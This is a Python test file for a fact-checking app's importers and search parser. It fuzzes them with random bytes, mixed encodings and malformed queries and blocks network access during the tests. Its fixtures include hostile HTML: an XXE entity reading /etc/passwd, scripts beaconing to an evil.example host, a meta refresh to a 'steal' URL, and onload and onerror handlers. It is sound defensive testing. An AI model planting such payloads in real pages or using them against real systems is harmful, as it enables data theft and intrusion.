"""Bad input, tried systematically (issue 9, point 5).

Property-based tests (hypothesis) push random bytes and random HTML through the
importers and random queries through the search parser: nothing but ``IngestError``
may come out, nothing may hang, nothing may be fetched (sockets are blocked) or executed.
Fixed cases cover huge lines, the 50 MB limit, deep nesting, hostile HTML, wrong and mixed
encodings, zero-width and right-to-left text, and a batch with bad files mixed in.
"""

from __future__ import annotations

import signal
import socket
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from factdesk.core.commands import MarkClaim
from factdesk.core.importing import import_paths
from factdesk.core.project import Project
from factdesk.ingest import MAX_BYTES, IngestError, parse_bytes, parse_file
from factdesk.storage.search import build_match_expression

BUDGET_SECONDS = 10  # a single input taking longer than this counts as a hang
SUFFIXES = (".txt", ".md", ".html")
FUZZ = settings(max_examples=150, deadline=None, derandomize=True,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


class Hang(BaseException):
    """Raised by the alarm: not an Exception, so no ``except Exception`` can swallow it."""


def _alarm(signum: int, frame: object) -> None:
    raise Hang()


def parse_within_budget(data: bytes, name: str) -> object | None:
    """parse_bytes, failing the test on anything but IngestError or on a hang."""
    previous = signal.signal(signal.SIGALRM, _alarm)
    signal.setitimer(signal.ITIMER_REAL, BUDGET_SECONDS)
    started = time.monotonic()
    try:
        return parse_bytes(data, name)
    except IngestError as exc:
        assert str(exc).startswith(name + ":"), f"message does not name the file: {exc}"
        return None
    except Hang:
        pytest.fail(f"{name}: no answer within {BUDGET_SECONDS} s ({len(data)} bytes)")
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
        assert time.monotonic() - started < BUDGET_SECONDS + 1


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Block every socket; record what tried to connect or resolve.

    The HTML stack is imported first, as in a running window: its import probes IPv6
    support with a local socket (not network access), and ``ssl`` subclasses
    ``socket.socket``, which must stay a class.
    """
    import trafilatura  # noqa: F401

    attempts: list[str] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(repr(args)[:200])
        raise OSError("network access blocked by the test")

    class NoSocket(socket.socket):
        def __init__(self, *args: object, **kwargs: object) -> None:
            refuse(*args, **kwargs)

    monkeypatch.setattr(socket, "socket", NoSocket)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "gethostbyname", refuse)
    yield attempts
    assert attempts == [], f"something tried to use the network: {attempts}"


# -- random input -------------------------------------------------------------------------

@FUZZ
@given(data=st.binary(max_size=4096), suffix=st.sampled_from(SUFFIXES))
def test_random_bytes_never_crash_or_hang(data: bytes, suffix: str) -> None:
    parse_within_budget(data, "random" + suffix)


_TEXTISH = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=400)


@FUZZ
@given(text=_TEXTISH, suffix=st.sampled_from(SUFFIXES),
       encoding=st.sampled_from(["utf-8", "utf-16", "utf-16-le", "utf-32", "cp1252", "latin-1",
                                 "shift_jis", "koi8-r", "utf-8-sig"]))
def test_random_text_in_any_encoding_never_crashes(text: str, suffix: str,
                                                   encoding: str) -> None:
    parse_within_budget(text.encode(encoding, errors="replace"), "text" + suffix)


_TAGS = ["div", "p", "span", "script", "style", "iframe", "img", "a", "table", "tr", "td",
         "article", "main", "body", "html", "head", "title", "meta", "link", "svg", "math",
         "noscript", "template", "object", "embed", "base", "form", "select", "!--", "![CDATA["]
_ATTRS = ['src="http://evil.example/x.png"', 'href="file:///etc/passwd"', 'onload="alert(1)"',
          'http-equiv="refresh" content="0;url=http://evil.example"', 'charset="utf-7"',
          'content="text/html; charset=ebcdic"', 'srcdoc="<p>inner</p>"', 'style="x:url(a)"']
_html_piece = st.one_of(
    st.builds(lambda t, a: f"<{t} {a}>", st.sampled_from(_TAGS), st.sampled_from(_ATTRS)),
    st.builds(lambda t: f"<{t}>", st.sampled_from(_TAGS)),
    st.builds(lambda t: f"</{t}>", st.sampled_from(_TAGS)),
    st.sampled_from(["&amp;", "&#0;", "&#x110000;", "&nbsp;", "&bogus;", "<", ">", "\"", "'",
                     "\u200b", "\u202e", "\ufeff", "\x00", "<?xml version='1.0'?>",
                     "<!DOCTYPE html>", "]]>", "-->"]),
    st.text(max_size=40),
)


@FUZZ
@given(pieces=st.lists(_html_piece, max_size=80))
def test_random_html_never_crashes_or_fetches(pieces: list[str]) -> None:
    attempts: list[str] = []
    real = (socket.socket, socket.create_connection, socket.getaddrinfo)

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(repr(args)[:100])
        raise OSError("network access blocked by the test")

    socket.socket, socket.create_connection, socket.getaddrinfo = refuse, refuse, refuse  # type: ignore[assignment,misc]
    try:
        parse_within_budget("".join(pieces).encode("utf-8", "surrogatepass"), "page.html")
    finally:
        socket.socket, socket.create_connection, socket.getaddrinfo = real  # type: ignore[misc]
    assert attempts == []


# -- fixed nasty cases -----------------------------------------------------------------------

@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_five_megabyte_single_line(suffix: str) -> None:
    line = b"word " * 1_000_000
    data = b"<html><body><p>" + line + b"</p></body></html>" if suffix == ".html" else line
    article = parse_within_budget(data, "huge" + suffix)
    assert article is not None and len(article.text) > 4_900_000  # type: ignore[attr-defined]


def test_a_file_over_50_mb_is_refused_without_reading_it(tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    big = tmp_path / "enormous report.txt"
    with big.open("wb") as handle:  # sparse: instant, takes no disk space
        handle.truncate(MAX_BYTES + 1)

    def no_reading(self: Path) -> bytes:
        raise AssertionError(f"{self} was read into memory")

    monkeypatch.setattr(Path, "read_bytes", no_reading)
    with pytest.raises(IngestError) as caught:
        parse_file(big)
    message = str(caught.value)
    assert message.startswith("enormous report.txt:")
    assert "too large" in message and "50 MB" in message


def test_exactly_50_mb_of_nothing_is_refused_quickly(tmp_path: Path) -> None:
    big = tmp_path / "zeros.txt"
    with big.open("wb") as handle:
        handle.truncate(MAX_BYTES)
    started = time.monotonic()
    with pytest.raises(IngestError, match=r"^zeros\.txt: "):
        parse_file(big)
    assert time.monotonic() - started < 10


def test_deeply_nested_html(no_network: list[str]) -> None:
    deep = b"<div>" * 5000 + b"Deep text at the bottom of the page." + b"</div>" * 5000
    for page in (b"<html><body>" + deep + b"</body></html>",
                 b"<html><body><p>An opening paragraph that is long enough.</p>" + deep
                 + b"</body></html>"):
        parse_within_budget(page, "deep.html")
    parse_within_budget(b"<ul><li>" * 3000 + b"item" + b"</li></ul>" * 3000, "lists.html")
    parse_within_budget(b"> " * 5000 + b"a deeply quoted line", "quotes.md")
    parse_within_budget(b"- " * 5000 + b"a deeply listed line", "lists.md")


HOSTILE = b"""<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<html><head>
<meta http-equiv="refresh" content="0; url=http://evil.example/steal">
<base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/style.css">
<link rel="import" href="file:///etc/passwd">
<script src="http://evil.example/x.js"></script>
<script>document.write("SCRIPTMARKER"); fetch("http://evil.example/beacon");</script>
<style>@import url("http://evil.example/a.css"); body { background: url(file:///etc/passwd) }
.STYLEMARKER { }</style>
<title>Council approves the new river bridge</title>
</head><body onload="alert('ONLOADMARKER')">
<iframe src="http://evil.example/frame.html">IFRAMEMARKER</iframe>
<iframe srcdoc="<script>alert('SRCDOCMARKER')</script>"></iframe>
<img src="http://evil.example/pixel.gif" onerror="alert('IMGMARKER')">
<object data="file:///etc/passwd">OBJECTMARKER</object>
<embed src="http://evil.example/x.swf">
<svg><script>alert("SVGSCRIPTMARKER")</script></svg>
<noscript><img src="http://evil.example/noscript.gif"></noscript>
<article>
<h1>Council approves the new river bridge</h1>
<p>The city council voted 31 to 4 on Tuesday to build a new bridge over the river,
the mayor said after the meeting. Work is due to start in March.</p>
<p>The bridge will cost 40 million euros, according to the council's budget report,
and should carry 12,000 vehicles a day. <a href="file:///etc/passwd">Read more</a>
&xxe;</p>
<script>var x = "INLINESCRIPTMARKER";</script>
<p>Residents had campaigned for a crossing since the old ferry closed in 2019.</p>
</article></body></html>"""


def test_hostile_html_is_parsed_offline_without_its_scripts(no_network: list[str]) -> None:
    article = parse_within_budget(HOSTILE, "hostile.html")
    assert article is not None
    text = article.text  # type: ignore[attr-defined]
    assert "voted 31 to 4" in text and "old ferry closed" in text
    everything = " ".join(str(v) for v in vars(article).values() if isinstance(v, str))
    for marker in ("SCRIPTMARKER", "INLINESCRIPTMARKER", "SVGSCRIPTMARKER", "SRCDOCMARKER",
                   "ONLOADMARKER", "IMGMARKER", "STYLEMARKER", "alert(", "fetch(",
                   "root:x:0:0", "evil.example"):
        assert marker not in everything, marker
    assert article.raw == HOSTILE  # type: ignore[attr-defined]  # kept as it came


def test_hostile_html_imports_offline(tmp_path: Path, no_network: list[str]) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "hostile.html").write_bytes(HOSTILE)
    with Project.open(tmp_path / "p.factdesk") as project:
        report = import_paths(project, [tmp_path / "in"])
        assert report.ok and len(report.added) == 1
        assert project.search.search("SCRIPTMARKER") == []
        assert project.search.search("bridge")


# -- encodings and invisible characters ------------------------------------------------------

SENTENCE = "Café owners in Zürich said the naïve plan would cost 3 million francs."


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be",
                                      "utf-32", "cp1252", "latin-1"])
def test_known_encodings_decode_right(encoding: str) -> None:
    article = parse_within_budget((SENTENCE + "\n\n" + SENTENCE + " Again.\n").encode(encoding),
                                  f"enc-{encoding}.txt")
    assert article is not None and SENTENCE in article.text  # type: ignore[attr-defined]


def test_html_declaring_the_wrong_charset_still_imports() -> None:
    page = ("<html><head><meta charset='utf-8'></head><body><p>" + SENTENCE
            + "</p></body></html>").encode("cp1252")
    article = parse_within_budget(page, "liar.html")
    assert article is not None and "Z" in article.text  # type: ignore[attr-defined]


def test_mixed_utf8_and_cp1252_keeps_both_parts_readable() -> None:
    data = ("Café owners in Zürich met on Monday.\n\n".encode()
            + "The naïve plan was dropped, the résumé said.\n".encode("cp1252"))
    article = parse_within_budget(data, "mixed.txt")
    assert article is not None
    assert "Café owners in Zürich" in article.text  # type: ignore[attr-defined]
    assert "naïve plan" in article.text  # type: ignore[attr-defined]
    assert any("mixed encodings" in w for w in article.warnings)  # type: ignore[attr-defined]


def test_mixed_encodings_never_crash() -> None:
    parts = [SENTENCE.encode(e, "replace") for e in ("utf-8", "cp1252", "utf-16-le", "koi8-r")]
    parse_within_budget(b"\n\n".join(parts), "mixed.txt")
    parse_within_budget(b"\n".join(parts) + b"\xff\xfe\xc3", "mixed.html")
    parse_within_budget(b"ok text\n\xc3\x28 broken utf-8 \xe2\x82 more text here\n", "bad.md")


def test_zero_width_and_right_to_left_text_survive_storage_and_search(tmp_path: Path) -> None:
    text = ("\u200fوزير المالية قال إن التضخم ارتفع\u200f بنسبة خمسة في المئة.\n\n"
            "השר אמר כי האבטלה ירדה.\u200e Zero\u200bwidth\u200c joiners\u200d and "
            "\u202eoverride\u202c marks\ufeff in a sentence about the budget.\n")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "rtl.txt").write_text(text, encoding="utf-8")
    with Project.open(tmp_path / "p.factdesk") as project:
        report = import_paths(project, [folder])
        assert report.ok, report.lines()
        article = project.articles.get(report.added[0][1])
        assert article is not None
        assert "التضخم" in article.text and "האבטלה" in article.text
        start = article.text.index("وزير")
        end = article.text.index("المئة") + len("المئة")
        MarkClaim(article.id, start, end).apply(project)
        assert project.search.search("التضخم")
        assert project.search.search("budget")
    from factdesk.core.checking import check_project

    assert check_project(tmp_path / "p.factdesk").ok


# -- a batch with bad files mixed in -----------------------------------------------------------

def test_batch_import_continues_and_names_each_bad_file(tmp_path: Path) -> None:
    folder = tmp_path / "batch"
    folder.mkdir()
    for i in range(3):
        (folder / f"good_{i}.txt").write_text(
            f"Good article {i}\n\nThe mayor said on Monday that {i} bridges were closed.\n")
    bad = {
        "picture.txt": b"\x89PNG\r\n\x1a\n" + bytes(200),
        "empty.md": b"",
        "whitespace.txt": " \n\t\n \u200b\ufeff".encode(),
        "nul.html": b"<html>\x00\x00\x00\x00</html>" * 50,
        "noise.html": bytes(range(256)) * 8,
        "scripts-only.html": b"<html><body><script>alert(1)</script></body></html>",
    }
    for name, data in bad.items():
        (folder / name).write_bytes(data)
    with (folder / "enormous.txt").open("wb") as handle:
        handle.truncate(MAX_BYTES + 1)
    (folder / "dangling.txt").symlink_to(folder / "missing-target.txt")
    stray = tmp_path / "notes.docx"
    stray.write_bytes(b"PK\x03\x04" + bytes(100))
    with Project.open(tmp_path / "p.factdesk") as project:
        report = import_paths(project, [folder, stray, tmp_path / "gone.txt"])
    assert sorted(name for name, _ in report.added) == ["good_0.txt", "good_1.txt", "good_2.txt"]
    failed = dict(report.failed)
    expected = {*bad, "enormous.txt", "dangling.txt", "notes.docx", "gone.txt"}
    assert set(failed) == expected, report.lines()
    for name, message in failed.items():
        assert message.startswith(name + ":"), message
    lines = report.lines()
    for name in expected:
        assert any(name in line for line in lines)
    assert "too large" in failed["enormous.txt"]
    assert "PNG" in failed["picture.txt"]


def test_cli_batch_import_exit_code_and_messages(tmp_path: Path) -> None:
    from reliability_helpers import factdesk

    folder = tmp_path / "batch"
    folder.mkdir()
    (folder / "good.txt").write_text("Good news\n\nThe council said 3 roads reopened.\n")
    (folder / "bad.html").write_bytes(b"\x7fELF" + bytes(64))
    project = tmp_path / "p.factdesk"
    factdesk("new", project, check=True)
    result = factdesk("import", project, folder, "--no-extract")
    assert result.returncode == 2
    assert "bad.html: binary file (ELF executable)" in result.stderr
    assert "1 imported" in result.stderr and "1 refused" in result.stderr
    assert "Traceback" not in result.stderr


# -- the search parser -----------------------------------------------------------------------

@pytest.fixture(scope="module")
def search_project(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Project]:
    from reliability_helpers import build_small_project

    path = build_small_project(tmp_path_factory.mktemp("search") / "s.factdesk")
    with Project.open(path, create=False) as project:
        project.entities.add_alias("Izyum", "Izium")
        project.db.conn.commit()
    with Project.open(path, create=False, read_only=True) as project:
        yield project


_QUERY_ALPHABET = st.sampled_from(list('"*()^:-+_.,;\'\\/{}[]<>|&!?#@$%~` \t\n\u00e9\u200b\u202e'
                                       "abcXYZ019") + ["OR", "AND", "NOT", "NEAR", "NEAR(",
                                                       "text:", "title:", "{text}:", " OR ",
                                                       " NOT ", "\u0000", "Izyum", "Reuters"])
_QUERIES = st.one_of(st.lists(_QUERY_ALPHABET, max_size=25).map("".join), st.text(max_size=60))
NASTY_QUERIES = ['"', '"unbalanced', "*", "* *", "NEAR(", "NEAR(a b", "^", "^start", "text:",
                 "title:x", "OR", "NOT", "AND", "a OR", "OR a", "NOT a", "a NOT", "a AND",
                 "-", "--", "-a", "a -", "(", ")", "((a)", '""', '"" OR ""', "a*b*", "*a",
                 "\u0000", "\u200b", "{text title}: a", "a:b:c", "+a", "a + b", "'", "\\",
                 "x" * 5000, "OR " * 300, '"' * 301]


def _assert_well_formed(project: Project, query: str, hits: list) -> None:
    """Every hit names a row that exists; a query without a word finds nothing."""
    articles = set(project.articles.ids())
    for hit in hits:
        assert hit.kind in {"article", "claim", "rationale", "evidence"}
        assert hit.article_id in articles and hit.snippet
    if not any(ch.isalnum() for ch in query):
        assert hits == []


@pytest.mark.parametrize("query", NASTY_QUERIES)
def test_nasty_queries_are_answered(search_project: Project, query: str) -> None:
    build_match_expression(query)
    hits = search_project.search.search(query)
    _assert_well_formed(search_project, query, hits)


@settings(max_examples=300, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(query=_QUERIES)
def test_random_queries_never_raise(search_project: Project, query: str) -> None:
    expression = build_match_expression(query, search_project.search.spelling_variants)
    _assert_well_formed(search_project, query, search_project.search.search(query))
    if expression is not None:  # what the parser builds is valid FTS5 as it stands
        try:
            search_project.db.execute(
                "SELECT count(*) FROM claims_fts WHERE claims_fts MATCH ?", [expression])
        except sqlite3.OperationalError as exc:
            pytest.fail(f"{query!r} -> {expression!r}: {exc}")
